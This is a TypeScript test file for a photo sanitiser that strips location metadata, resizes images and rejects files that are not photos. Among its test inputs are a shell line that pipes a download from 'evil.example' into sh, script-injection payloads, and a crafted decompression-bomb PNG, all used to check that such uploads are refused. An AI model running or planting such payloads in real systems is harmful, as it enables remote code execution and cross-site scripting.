import { crc32 } from 'node:zlib';
import exifReader from 'exif-reader';
import fc from 'fast-check';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { DomainError, toProblem } from '../../../platform/errors.js';
import { PHOTO_MAX_BYTES, PHOTO_MAX_EDGE, sanitisePhoto, sniffPhotoFormat } from './photos.js';

const solid = (width: number, height: number, channels: 3 | 4 = 3) =>
  sharp({ create: { width, height, channels, background: { r: 200, g: 80, b: 40, alpha: 0.5 } } });

/** A phone photo as it arrives: EXIF with the reporter's whereabouts, XMP, a wide-gamut profile. */
async function phonePhoto(): Promise<Buffer> {
  return solid(640, 480)
    .withIccProfile('p3')
    .withExif({
      IFD0: { Make: 'Xiaomi', Model: 'Redmi Note 12', Artist: 'Budi Santoso', Orientation: '1' },
      IFD3: {
        GPSLatitudeRef: 'S',
        GPSLatitude: '6/1 10/1 30/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '106/1 49/1 0/1',
      },
    })
    .withXmp(
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Budi Santoso</dc:creator>' +
        '</rdf:Description></rdf:RDF></x:xmpmeta>',
    )
    .jpeg()
    .toBuffer();
}

async function expectPhotoError(promise: Promise<unknown>, code: string, status: number): Promise<DomainError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(DomainError);
  expect((error as DomainError).code).toBe(code);
  expect((error as DomainError).status).toBe(status);
  return error as DomainError;
}

/** A real PNG whose header then claims other dimensions (a decompression bomb's trick). */
async function pngClaiming(width: number, height: number): Promise<Buffer> {
  const png = Buffer.from(await solid(8, 8).png().toBuffer());
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

describe('sanitisePhoto', () => {
  it('strips EXIF, GPS, XMP and the ICC profile', async () => {
    const input = await phonePhoto();
    const before = await sharp(input).metadata();
    expect(exifReader(before.exif!).GPSInfo?.GPSLatitude).toEqual([6, 10, 30]);
    expect(before.xmp).toBeDefined();
    expect(before.icc).toBeDefined();

    const photo = await sanitisePhoto(input, { name: 'IMG_20260101.jpg' });
    const after = await sharp(photo.data).metadata();
    expect(after.exif).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(after.iptc).toBeUndefined();
    expect(after.icc).toBeUndefined();
    expect(after.format).toBe('jpeg');
    const bytes = photo.data.toString('latin1');
    for (const trace of ['Exif\0\0', 'Budi', 'Xiaomi', 'Redmi', 'xmpmeta', 'GPS']) expect(bytes, trace).not.toContain(trace);
    expect(photo).toMatchObject({ contentType: 'image/jpeg', extension: 'jpg', width: 640, height: 480, sourceFormat: 'jpeg' });
  });

  it.each(['jpeg', 'webp'] as const)('writes %s with no metadata, from a photo that had it in PNG or WebP too', async (format) => {
    const source = await phonePhoto();
    for (const input of [source, await sharp(source).keepMetadata().png().toBuffer(), await sharp(source).keepMetadata().webp().toBuffer()]) {
      expect((await sharp(input).metadata()).exif).toBeDefined();
      const photo = await sanitisePhoto(input, { format });
      const after = await sharp(photo.data).metadata();
      expect(after.format).toBe(format);
      expect([after.exif, after.xmp, after.iptc, after.icc]).toEqual([undefined, undefined, undefined, undefined]);
      expect(photo.data.toString('latin1')).not.toContain('Budi');
    }
  });

  it('turns the photo upright by its EXIF orientation and drops the tag', async () => {
    // Orientation 6: the camera was held rotated; the pixels are stored 90° off.
    const input = await solid(200, 100).withMetadata({ orientation: 6 }).jpeg().toBuffer();
    expect((await sharp(input).metadata()).orientation).toBe(6);
    const photo = await sanitisePhoto(input);
    expect([photo.width, photo.height]).toEqual([100, 200]);
    expect((await sharp(photo.data).metadata()).orientation).toBeUndefined();
  });

  it.each([
    ['a wide PNG', () => solid(4000, 1000).png().toBuffer(), 'png', [PHOTO_MAX_EDGE, 512]],
    ['a tall WebP', () => solid(1000, 3000).webp().toBuffer(), 'webp', [683, PHOTO_MAX_EDGE]],
    ['a small JPEG (not enlarged)', () => solid(300, 200).jpeg().toBuffer(), 'jpeg', [300, 200]],
  ] as const)('scales %s down to the maximum edge', async (_label, make, sourceFormat, size) => {
    const photo = await sanitisePhoto(await make());
    expect(photo.sourceFormat).toBe(sourceFormat);
    expect([photo.width, photo.height]).toEqual(size);
    const meta = await sharp(photo.data).metadata();
    expect([meta.width, meta.height]).toEqual(size);
  });

  it('flattens transparency for JPEG and can write WebP instead', async () => {
    const input = await solid(50, 50, 4).png().toBuffer();
    const jpeg = await sanitisePhoto(input);
    expect((await sharp(jpeg.data).metadata()).hasAlpha).toBe(false);
    const webp = await sanitisePhoto(input, { format: 'webp' });
    expect(webp).toMatchObject({ contentType: 'image/webp', extension: 'webp' });
    expect((await sharp(webp.data).metadata()).format).toBe('webp');
  });

  it('drops whatever was appended to a valid image (a polyglot)', async () => {
    const input = Buffer.concat([await solid(40, 40).jpeg().toBuffer(), Buffer.from('<script>alert(1)</script>')]);
    const photo = await sanitisePhoto(input);
    expect(photo.data.toString('latin1')).not.toContain('<script>');
  });

  it.each([
    ['a shell script renamed .jpg', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')],
    ['HTML with a script', Buffer.from('<html><script>alert(1)</script></html>')],
    ['an SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['a PDF', Buffer.from('%PDF-1.7\n%âãÏÓ\n')],
    ['a GIF (an image, but not accepted)', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1')],
    ['JPEG magic bytes then garbage', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('not really a jpeg')])],
    ['an empty file', Buffer.alloc(0)],
  ])('refuses %s as not a photo', async (_label, input) => {
    const error = await expectPhotoError(sanitisePhoto(input, { name: 'foto.jpg' }), 'complaint.photo_invalid', 422);
    expect(toProblem(error, 'id').title).toBe('Berkas "foto.jpg" bukan foto JPEG, PNG, atau WebP yang dapat dibaca.');
    expect(toProblem(error, 'en').title).toBe('File "foto.jpg" is not a readable JPEG, PNG or WebP photo.');
  });

  it('refuses a truncated JPEG', async () => {
    const full = await solid(400, 300).jpeg().toBuffer();
    await expectPhotoError(sanitisePhoto(full.subarray(0, full.length / 2)), 'complaint.photo_invalid', 422);
  });

  it('refuses a file over the size limit before decoding it', async () => {
    const big = Buffer.alloc(PHOTO_MAX_BYTES + 1, 0);
    big.set([0xff, 0xd8, 0xff], 0);
    const error = await expectPhotoError(sanitisePhoto(big, { name: 'besar.jpg', field: '/photos/0' }), 'complaint.photo_too_large', 413);
    const problem = toProblem(error, 'id');
    expect(problem.title).toBe('Foto "besar.jpg" terlalu besar: maksimal 8 MB.');
    expect(problem.errors).toEqual([{ field: '/photos/0', code: 'complaint.photo_too_large', message: problem.title }]);
  });

  it.each([
    ['30000 × 30000 (a decompression bomb)', 30_000, 30_000],
    ['10000 × 10000 (100 megapixels)', 10_000, 10_000],
    ['20000 × 10 (an absurd edge)', 20_000, 10],
  ])('refuses a PNG claiming %s', async (_label, width, height) => {
    const error = await expectPhotoError(sanitisePhoto(await pngClaiming(width, height)), 'complaint.photo_too_large', 413);
    expect(toProblem(error, 'en').title).toBe('Photo "foto" is too large: at most 50 megapixels and 16383 pixels per side.');
  });

  it('keeps control characters and very long names out of messages', async () => {
    const error = await expectPhotoError(sanitisePhoto(Buffer.from('x'), { name: `a\u0000b\n${'c'.repeat(300)}` }), 'complaint.photo_invalid', 422);
    expect(error.vars.name).toBe(`ab${'c'.repeat(98)}`);
  });

  it('answers random bytes with a photo error, never anything else', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom([0xff, 0xd8, 0xff], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], []),
        fc.uint8Array({ maxLength: 2000 }),
        async (magic, rest) => {
          const error = await sanitisePhoto(Buffer.concat([Buffer.from(magic), rest])).catch((e: unknown) => e);
          expect(error).toBeInstanceOf(DomainError);
          expect((error as DomainError).code).toBe('complaint.photo_invalid');
        },
      ),
      { numRuns: 100 },
    );
  });
});

describe('sniffPhotoFormat', () => {
  it.each([
    [[0xff, 0xd8, 0xff, 0xe1], 'jpeg'],
    [[0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'png'],
    [[...Buffer.from('RIFF'), 0, 0, 0, 0, ...Buffer.from('WEBPVP8 ')], 'webp'],
    [[...Buffer.from('RIFF'), 0, 0, 0, 0, ...Buffer.from('WAVEfmt ')], null],
    [[0xff, 0xd8], null],
    [[], null],
  ])('%j → %s', (bytes, format) => {
    expect(sniffPhotoFormat(Uint8Array.from(bytes))).toBe(format);
  });
});
